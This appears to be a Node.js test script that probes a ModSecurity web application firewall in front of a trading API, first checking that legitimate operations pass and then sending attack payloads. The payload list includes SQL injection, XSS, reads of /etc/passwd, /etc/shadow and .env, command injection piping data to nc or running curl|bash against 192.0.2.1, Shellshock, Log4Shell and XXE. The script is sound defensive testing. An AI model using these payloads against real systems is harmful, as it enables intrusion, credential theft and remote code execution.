// Sends every operation of the contract, and then attacks, through nginx with ModSecurity. What reaches Bourse carries its
// Bourse-Request-Id in the answer; what the firewall stops does not. Writes what happened as Markdown to standard output.
//
//   node waf-test.mjs FRONT DIRECT
import { createHash, createHmac, generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import http from 'node:http';

const [front, direct] = process.argv.slice(2);
const email = 'waf@example.org';
const password = "select * from passphrases; -- it's <b>mine</b> & union's";
let token = '';

function send(base, method, path, { headers = {}, body = '' } = {}) {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const request = http.request(
      { host: url.hostname, port: url.port, method, path, setHost: false, headers: { Host: 'localhost', 'User-Agent': 'bot/1', Accept: '*/*', ...headers } },
      (answer) => {
        let text = '';
        answer.on('data', (part) => { text += part; });
        answer.on('end', () => resolve({ status: answer.statusCode, headers: answer.headers, text, reached: 'bourse-request-id' in answer.headers }));
      },
    );
    request.on('upgrade', (answer, socket) => {
      socket.destroy();
      resolve({ status: answer.statusCode, headers: answer.headers, text: '', reached: true });
    });
    request.on('error', reject);
    request.end(body);
  });
}

const json = (value) => ({
  headers: { 'Content-Type': 'application/json', ...(token && { Authorization: `Bearer ${token}` }) },
  body: JSON.stringify(value),
});

async function call(method, path, value) {
  const answer = await send(front, method, path, json(value));
  if (answer.status >= 300) throw new Error(`${method} ${path}: ${answer.status} ${answer.text}`);
  return answer.text ? JSON.parse(answer.text) : null;
}

const contract = JSON.parse((await send(front, 'GET', '/openapi.json')).text);
const resolved = (node) => (node.$ref ? node.$ref.split('/').slice(1).reduce((at, step) => at[step], contract) : node);

/** The headers of a request that an API key signs, as docs/guides/api-keys.md says. */
function signature(method, target, { apiKey, secret }) {
  const timestamp = Date.now();
  const nonce = randomUUID();
  const body = createHash('sha256').update('').digest('hex');
  const text = ['bourse-request-2', apiKey.id, 'localhost', method, target, timestamp, 5000, nonce, body].join('\n');
  return {
    'Bourse-Key': apiKey.id,
    'Bourse-Timestamp': `${timestamp}`,
    'Bourse-Nonce': nonce,
    'Bourse-Signature': createHmac('sha256', secret).update(text).digest('base64'),
  };
}

/** A proof of a key (DPoP), as the console sends one with every request. */
function proof({ privateKey, publicKey }, htm, path, token) {
  const part = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const ath = token && createHash('sha256').update(token).digest('base64url');
  const claims = { jti: randomUUID(), htm, htu: `https://localhost${path}`, iat: Math.floor(Date.now() / 1000), ...(ath && { ath }) };
  const text = `${part({ typ: 'dpop+jwt', alg: 'ES256', jwk: publicKey.export({ format: 'jwk' }) })}.${part(claims)}`;
  return `${text}.${sign('sha256', Buffer.from(text), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}

/** A value as the contract describes it, with what people write where it may be any text. */
function sample(given, name = '') {
  const schema = resolved(given);
  if (schema.allOf) return Object.assign({}, ...schema.allOf.map((part) => sample(part, name)));
  if (schema.oneOf ?? schema.anyOf) return sample((schema.oneOf ?? schema.anyOf)[0], name);
  if (schema.enum) return schema.enum[0];
  if (schema.const !== undefined) return schema.const;
  if (schema.examples) return schema.examples[0];
  switch ([schema.type].flat()[0]) {
    case 'boolean': return true;
    case 'integer': case 'number': return schema.minimum ?? 1;
    case 'array': return [sample(schema.items ?? {}, name)];
    case 'object': case undefined:
      return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([key, part]) => [key, sample(part, key)]));
    default: return text(schema, name);
  }
}

function text(schema, name) {
  if (/password/i.test(name)) return password;
  if (/email/i.test(name)) return email;
  if (schema.format === 'uuid') return '0197a2b4-6f00-7c10-9a41-5d3c6a0b9e77';
  if (schema.format === 'date-time') return '2027-01-31T12:00:00.000000Z';
  const words = "Mary O'Neill & Söhne, 5 % off: see the order of 3.12.";
  return (schema.pattern ? (/A-Z/.test(schema.pattern) ? 'BTC-USD' : '42.5') : words).slice(0, schema.maxLength ?? 200);
}

/** One that the contract allows, in the first of its types. */
function body(content) {
  const authorization = { Authorization: `Bearer ${token}` };
  if (!content) return { headers: authorization };
  const [type, { schema }] = Object.entries(content)[0];
  return type === 'application/json' ? json(sample(schema)) : { headers: { ...authorization, 'Content-Type': type }, body: '%PDF-1.7' };
}

async function operations() {
  const rows = [];
  for (const [path, item] of Object.entries(contract.paths)) {
    for (const method of ['get', 'post', 'put', 'patch', 'delete'].filter((one) => item[one])) {
      const operation = item[method];
      const parameters = [...(item.parameters ?? []), ...(operation.parameters ?? [])].map(resolved);
      const value = (parameter) => encodeURIComponent(sample(parameter.schema, parameter.name));
      const target = path.replace(/\{([^}]*)}/g, (_, name) => value(parameters.find((one) => one.name === name)));
      const query = parameters.filter((one) => one.in === 'query').map((one) => `${one.name}=${value(one)}`).join('&');
      const given = body(operation.requestBody?.content);
      for (const header of parameters.filter((one) => one.in === 'header')) given.headers[header.name] = `${sample(header.schema, header.name)}`;
      rows.push({ name: `${method.toUpperCase()} ${path}`, method: method.toUpperCase(), target: target + (query && `?${query}`), given });
    }
  }
  return rows.sort((one, other) => one.name.includes('logout') - other.name.includes('logout'));
}

const order = { symbol: 'BTC-USD', side: 'BUY', type: 'LIMIT', price: '100.00', quantity: '0.01' };
const ATTACKS = [
  ['SQL injection in a query', 'GET', "/v1/orders?symbol=BTC-USD'%20OR%20'1'%3D'1'--"],
  ['SQL injection, UNION', 'GET', '/v1/trades?symbol=x%27%20UNION%20SELECT%20password%20FROM%20users--'],
  ['SQL injection in a body', 'POST', '/v1/orders', json({ ...order, clientOrderId: "1'; DROP TABLE users; --" })],
  ['SQL injection in a header', 'GET', '/v1/me', { headers: { Cookie: "s=1' or sleep(5)#" } }],
  ['script in a query', 'GET', '/v1/orders?symbol=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['script in a body', 'POST', '/v1/auth/register', json({ email, fullName: '<img src=x onerror=alert(document.cookie)>', password })],
  ['script in a path', 'GET', '/v1/symbols/%3Csvg%20onload%3Dalert(1)%3E'],
  ['path traversal', 'GET', '/assets/..%2f..%2f..%2fetc%2fpasswd'],
  ['path traversal in a query', 'GET', '/v1/orders?cursor=../../../../etc/passwd'],
  ['system file', 'GET', '/v1/orders?cursor=/etc/shadow'],
  ['secret file', 'GET', '/.git/config'],
  ['secret file, environment', 'GET', '/.env'],
  ['remote file', 'GET', '/v1/orders?cursor=http://192.0.2.1/shell.txt%3F'],
  ['shell command in a query', 'GET', '/v1/orders?cursor=%3Bcat%20/etc/passwd%7Cnc%20192.0.2.1%2080'],
  ['shell command in a body', 'POST', '/v1/orders', json({ ...order, clientOrderId: '$(curl http://192.0.2.1/x|bash)' })],
  ['Shellshock', 'GET', '/v1/time', { headers: { 'User-Agent': '() { :; }; /bin/bash -c "id"' } }],
  ['Log4Shell', 'GET', '/v1/time', { headers: { 'User-Agent': '${jndi:ldap://192.0.2.1/a}' } }],
  ['Log4Shell in a body', 'POST', '/v1/auth/register', json({ email, fullName: '${${lower:j}ndi:ldap://192.0.2.1/a}', password })],
  ['Java deserialisation', 'POST', '/v1/orders', json({ ...order, clientOrderId: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ' })],
  ['Java class by name', 'GET', '/v1/orders?cursor=java.lang.Runtime.getRuntime().exec'],
  ['PHP', 'GET', '/v1/orders?cursor=%3C?php%20system($_GET%5Bc%5D);?%3E'],
  ['Node.js', 'GET', '/v1/orders?cursor=_$$ND_FUNC$$_function()%7B%7D'],
  ['header splitting', 'GET', '/v1/orders?cursor=x%0d%0aSet-Cookie:%20a=b'],
  ['scanner', 'GET', '/v1/time', { headers: { 'User-Agent': 'sqlmap/1.7' } }],
  ['scanner, nikto', 'GET', '/v1/time', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }],
  ['XML', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/xml' }, body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }],
  ['form', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'symbol=BTC-USD' }],
  ['method TRACE', 'TRACE', '/v1/time'],
  ['method that nobody has', 'PROPFIND', '/v1/time'],
  ['broken JSON', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/json' }, body: '{"symbol":' }],
  ['deep JSON', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/json' }, body: '[['.repeat(5000) }],
  ['a body of 2 MB', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/json' }, body: `{"symbol":"${'x'.repeat(2 << 20)}"}` }],
  ['a file where none is taken', 'POST', '/v1/orders', { headers: { 'Content-Type': 'image/jpeg' }, body: 'x' }],
  ['a script beside a file', 'POST', '/v1/kyc/cases/0197a2b4-6f00-7c10-9a41-5d3c6a0b9e77/files?kind=%3Cscript%3Ealert(1)%3C/script%3E', { headers: { 'Content-Type': 'image/jpeg' }, body: 'x' }],
  ['two lengths', 'POST', '/v1/orders', { headers: { 'Content-Type': 'application/json', 'Content-Length': '2', 'Transfer-Encoding': 'chunked' }, body: '{}' }],
  ['null byte', 'GET', '/v1/orders?cursor=a%00b'],
];

const failures = [];
await call('POST', '/v1/auth/register', { email, password, fullName: "Mary O'Neill" });
token = (await call('POST', '/v1/auth/login', { email, password })).accessToken;

const legitimate = await operations();
let passed = 0;
for (const { name, method, target, given } of legitimate) {
  const answer = await send(front, method, target, given);
  if (answer.reached) passed += 1;
  else failures.push(`${name} (${target}) was stopped: ${answer.status}`);
}
for (const path of ['/', '/docs', '/problems/1002']) {
  const answer = await send(front, 'GET', path, { headers: { Accept: 'text/html' } });
  if (!answer.reached) failures.push(`GET ${path} was stopped: ${answer.status}`);
}
const batch = { operations: Array.from({ length: 1000 }, () => ({ op: 'PLACE', ...order })) };
token = (await call('POST', '/v1/auth/login', { email, password })).accessToken;
const large = await send(front, 'POST', '/v1/orders/batch', json(batch));
if (large.status !== 200) failures.push(`a batch of 1,000 orders: ${large.status} ${large.text.slice(0, 200)}`);
const file = { headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'image/jpeg' }, body: Buffer.alloc(10 << 20, "1' or 1=1 --") };
const upload = await send(front, 'POST', '/v1/kyc/cases/0197a2b4-6f00-7c10-9a41-5d3c6a0b9e77/files?kind=IDENTITY_FRONT', file);
if (!upload.reached) failures.push(`a file of 10 MiB: ${upload.status} ${upload.text.slice(0, 200)}`);
// Signatures and proofs name the host and the body, so they also tell whether the proxy hands both on as they came.
const apiKey = await call('POST', '/v1/me/api-keys', { label: 'Bot', algorithm: 'HMAC_SHA256', scopes: ['READ'] });
const signed = await send(front, 'GET', '/v1/orders?status=OPEN&limit=5', { headers: signature('GET', '/v1/orders?status=OPEN&limit=5', apiKey) });
if (signed.status !== 200) failures.push(`a signed request: ${signed.status} ${signed.text.slice(0, 200)}`);
const device = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const login = json({ email, password });
login.headers.DPoP = proof(device, 'POST', '/v1/auth/login');
const bound = JSON.parse((await send(front, 'POST', '/v1/auth/login', login)).text);
const proven = await send(front, 'GET', '/v1/me', {
  headers: { Authorization: `DPoP ${bound.accessToken}`, DPoP: proof(device, 'GET', '/v1/me', bound.accessToken) },
});
if (bound.tokenType !== 'DPoP' || proven.status !== 200) failures.push(`a proven request: ${proven.status} ${proven.text.slice(0, 200)}`);
const upgrade = await send(front, 'GET', '/v1/stream', {
  headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==' },
});
if (upgrade.status !== 101) failures.push(`the stream: ${upgrade.status}`);

const stopped = [];
for (const [name, method, path, given] of ATTACKS) {
  const answer = await send(front, method, path, given).catch((error) => ({ status: error.code, reached: false }));
  const bare = await send(direct, method, path, given).catch((error) => ({ status: error.code }));
  if (answer.reached) failures.push(`attack let through: ${name}: ${answer.status}`);
  stopped.push(`| ${name} | ${answer.status}${answer.reached ? ', by Bourse' : ''} | ${bare.status} |`);
}

console.log(`${passed} of ${legitimate.length} operations of the contract pass, a batch of 1,000 orders, a file of 10 MiB, a signed request, one with a proof and a stream too.\n`);
console.log(`| attack | answer of the firewall | of Bourse without it |\n|---|---|---|\n${stopped.join('\n')}`);
if (failures.length > 0) {
  console.error(failures.join('\n'));
  process.exit(1);
}
